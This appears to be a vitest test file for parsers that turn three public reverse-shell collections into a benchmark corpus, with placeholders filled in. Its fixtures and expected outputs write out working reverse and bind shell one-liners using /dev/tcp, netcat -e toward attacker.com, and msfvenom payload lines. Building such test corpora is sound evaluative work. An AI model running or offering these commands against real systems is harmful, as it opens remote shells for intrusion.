/**
 * The remote-shell bench reads three outside formats as data: the revshells.com generator's
 * JavaScript (for its string literals, never run), shellerator's JSON and GTFOBins' front
 * matter. Each reader is checked on a small page written here in that format.
 */
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { REMOTE_SHELL_SOURCES } from '../../bench/remote-shell-sources.js';

const source = (collection: string) =>
  REMOTE_SHELL_SOURCES.find((s) => s.collection === collection)!;

async function folderWith(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'remote-shell-sources-'));
  for (const [name, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), text);
  }
  return dir;
}

describe('the remote-shell bench readers', () => {
  it("reads the generator's reverse and bind shells as literals, filled in, and nothing else", async () => {
    const dir = await folderWith({
      'js/data.js': [
        'const reverseShellCommands = withCommandType(CommandType.ReverseShell, [',
        '    { "name": "Bash -i", "command": "{shell} -i >& /dev/tcp/{ip}/{port} 0>&1", "meta": ["linux"] },',
        '//  { "name": "Retired", "command": "nc {ip} {port}", "meta": ["linux"] },',
        '    { "name": "Quoted", "command": "echo \\"a\\tb\\" \\x41", "meta": ["linux"] },',
        '    { "name": "Script", "command": `#!/bin/sh\\nnc {ip} {port} -e {shell}`, "meta": ["windows"] },',
        '    { "name": "Computed (Base64)", "command": "Computed (Base64)", "meta": ["windows"] },',
        ']);',
        'const msfvenomCommands = withCommandType(CommandType.MSFVenom, [',
        '    { "name": "Staged", "command": "msfvenom -p x LHOST={ip}", "meta": ["linux"] },',
        ']);',
      ].join('\n'),
    });
    expect(await source('0dayCTF+reverse-shell-generator').read(dir)).toEqual([
      { name: 'Bash -i', text: '/bin/sh -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' },
      { name: 'Quoted', text: 'echo "a\tb" A\n' },
      { name: 'Script', text: '#!/bin/sh\nnc 203.0.113.7 4444 -e cmd\n' },
    ]);
  });

  it("reads shellerator's reverse and bind shells, not its msfvenom lines", async () => {
    const dir = await folderWith({
      'data/shells.json': JSON.stringify({
        revshells: {
          bash: [{ command: 'bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1' }, { command: ' ' }],
          msfvenom: [{ command: 'msfvenom -p linux/x64/shell_reverse_tcp LHOST={LHOST}' }],
        },
        bindshells: { netcat: [{ command: 'nc -lvp {LPORT} -e /bin/sh' }] },
      }),
    });
    expect(await source('ShutdownRepo+shellerator').read(dir)).toEqual([
      { name: 'revshells bash #1', text: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' },
      { name: 'bindshells netcat #1', text: 'nc -lvp 4444 -e /bin/sh\n' },
    ]);
  });

  it("reads GTFOBins' reverse and bind shells, a context's own code once", async () => {
    const page = [
      '---',
      'functions:',
      '  reverse-shell:',
      '    - code: |-',
      '        nc -e /bin/sh attacker.com 12345',
      '      contexts:',
      '        sudo:',
      '        suid:',
      '          code: |-',
      '            nc -e "/bin/sh -p" attacker.com 12345',
      '  file-read:',
      '    - code: nc -l 12345 > file',
      '---',
    ].join('\n');
    const dir = await folderWith({
      '_gtfobins/nc': page,
      '_gtfobins/cat': '---\nfunctions: {}\n---\n',
    });
    expect(await source('GTFOBins+GTFOBins.github.io').read(dir)).toEqual([
      { name: 'nc reverse-shell #1.1', text: 'nc -e /bin/sh 203.0.113.7 12345\n' },
      { name: 'nc reverse-shell #1.2', text: 'nc -e "/bin/sh -p" 203.0.113.7 12345\n' },
    ]);
  });
});
